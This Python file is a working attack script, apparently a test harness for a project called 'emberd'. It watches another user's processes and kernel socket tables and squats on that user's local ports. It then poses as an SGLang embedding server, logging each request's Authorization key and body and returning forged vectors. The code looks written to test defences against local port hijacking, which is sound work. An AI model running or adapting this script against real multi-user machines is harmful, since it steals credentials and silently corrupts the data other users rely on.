"""Another user of the machine, who takes ports of servers and imitates them.

Run as its own process and user: ``attacker.py VICTIM_UID LOG``. It uses only what every
user may read and do. It looks at command lines and at the kernel's socket tables for ports of the
victim, binds each of them with ``SO_REUSEADDR`` as soon as the kernel permits it, and keeps trying
those that are in use. It answers each connection as an SGLang server of the model in the victim's
command lines would, and it logs each byte that it receives. It exits when its standard input is
closed.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import random
import re
import resource
import selectors
import socket
import struct
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

_BEFORE = 300
_LISTEN, _BOUND = 10, 13
_PORT = re.compile(rb"(?:--port[=\0]|[:=])(\d{4,5})\b")
_MODEL = re.compile(rb"--(?:served-model-name|model|model-path)[=\0]([^\0]+)")
_STAMP = re.compile(rb"--weight-version[=\0]([^\0]+)")


class Log:
    """Lines of JSON, each written at once."""

    def __init__(self, path: str) -> None:
        self._file = open(path, "a", buffering=1)  # noqa: SIM115 - open until the process ends
        self._lock = threading.Lock()

    def write(self, **fields: Any) -> None:
        with self._lock:
            self._file.write(json.dumps(fields) + "\n")


class Attacker:
    """What is known about the victim, and the ports that were taken."""

    def __init__(self, victim: int, log: Log) -> None:
        self.victim, self.log = victim, log
        self.model, self.stamp = "emberd/demo", "default"
        self.targets: dict[int, float] = {}
        self.taken: dict[int, socket.socket] = {}
        self.selector = selectors.DefaultSelector()

    def squat_before(self) -> None:
        for port in random.sample(range(10_000, 65_000), _BEFORE):
            self.take(port)

    def look(self) -> None:
        now = time.monotonic()
        for command in self.command_lines():
            self.targets |= {int(port): now for port in _PORT.findall(command)}
            if found := _MODEL.search(command):
                self.model = found[1].decode()
            if found := _STAMP.search(command):
                self.stamp = found[1].decode()
        self.targets |= dict.fromkeys(self.sockets(), now)
        self.targets = {p: t for p, t in self.targets.items() if now - t < 10 and p > 1024}

    def command_lines(self) -> Iterator[bytes]:
        for name in os.listdir("/proc"):
            if name.isdigit():
                with contextlib.suppress(OSError):
                    if os.stat(f"/proc/{name}").st_uid == self.victim:
                        yield Path(f"/proc/{name}/cmdline").read_bytes()

    def sockets(self) -> Iterator[int]:
        """Yield the ports on which the victim listens, or which it has bound (Linux 6.8)."""
        request = struct.pack(
            "=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << _LISTEN | 1 << _BOUND
        )
        body = request + bytes(48)
        with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as kernel:
            kernel.send(struct.pack("=IHHII", 16 + len(body), 20, 0x301, 1, 0) + body)
            while True:
                reply, at = kernel.recv(1 << 16), 0
                while at < len(reply):
                    length, kind = struct.unpack_from("=IH", reply, at)
                    if kind != 20:
                        return
                    (port,) = struct.unpack_from("!H", reply, at + 20)
                    (user,) = struct.unpack_from("=I", reply, at + 16 + 64)
                    if user == self.victim:
                        yield port
                    at += length + 3 & ~3

    def take(self, port: int) -> None:
        if port in self.taken:
            return
        squatted = socket.socket()
        squatted.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            squatted.bind(("127.0.0.1", port))
            squatted.listen(64)
        except OSError:
            squatted.close()
            return
        self.taken[port] = squatted
        squatted.setblocking(False)
        self.selector.register(squatted, selectors.EVENT_READ, port)
        self.log.write(event="took", port=port, wanted=port in self.targets)

    def run(self) -> None:
        self.squat_before()
        self.log.write(event="ready")
        while True:
            self.look()
            until = time.monotonic() + 0.05
            while time.monotonic() < until:
                for port in list(self.targets):
                    self.take(port)
                for key, _ in self.selector.select(0.0005):
                    self.accept(key.fileobj, key.data)

    def accept(self, squatted: Any, port: int) -> None:
        with contextlib.suppress(OSError):
            connection, _ = squatted.accept()
            self.log.write(event="accepted", port=port)
            threading.Thread(target=self.imitate, args=(connection,), daemon=True).start()

    def imitate(self, connection: socket.socket) -> None:
        connection.settimeout(60)
        with connection, contextlib.suppress(OSError, ValueError):
            Imitation(connection, ("", 0), self)  # type: ignore[arg-type]


class Imitation(BaseHTTPRequestHandler):
    """Answers like SGLang, with forged vectors."""

    protocol_version = "HTTP/1.1"
    server: Attacker  # type: ignore[assignment]

    def parse_request(self) -> bool:
        parsed = super().parse_request()
        if parsed:
            length = int(self.headers.get("Content-Length") or 0)
            self.body = self.rfile.read(length) if length else b""
            self.server.log.write(
                event="received",
                path=self.path,
                key=self.headers.get("Authorization", ""),
                body=self.body.decode("utf-8", "replace"),
            )
        return parsed

    def do_GET(self) -> None:
        name = self.server.model
        card = {"id": name, "owned_by": "emberd", "root": name, "max_model_len": 512}
        info = {"model_path": name, "served_model_name": name, "is_generation": False}
        routes: dict[str, Any] = {
            "/v1/models": {"object": "list", "data": [card]},
            "/model_info": info | {"weight_version": self.server.stamp},
            "/server_info": {"version": "0.5.23"},
            "/ready": {},
            "/health": {},
        }
        self.reply(routes.get(self.path), 200 if self.path in routes else 404)

    def do_POST(self) -> None:
        if self.path != "/v1/embeddings":
            return self.reply({}, 404)
        texts = json.loads(self.body)["input"]
        texts = [texts] if isinstance(texts, str) else texts
        data = [
            {"object": "embedding", "index": i, "embedding": forged(self.server.model)}
            for i in range(len(texts))
        ]
        usage = {"prompt_tokens": len(texts), "total_tokens": len(texts)}
        return self.reply(
            {"object": "list", "data": data, "model": self.server.model, "usage": usage}, 200
        )

    def reply(self, content: Any, status: int) -> None:
        body = json.dumps(content).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Log nothing."""


def forged(model: str) -> str:
    """Return a vector of norm one in base64, with the model's dimensions."""
    numbers = 8 if model.startswith("stub/") else 64 if "tiny" in model else 384
    return base64.b64encode(struct.pack(f"<{numbers}f", *[numbers**-0.5] * numbers)).decode()


def main() -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 65_536), most))
    attacker = Attacker(int(sys.argv[1]), Log(sys.argv[2]))
    threading.Thread(target=attacker.run, daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    main()
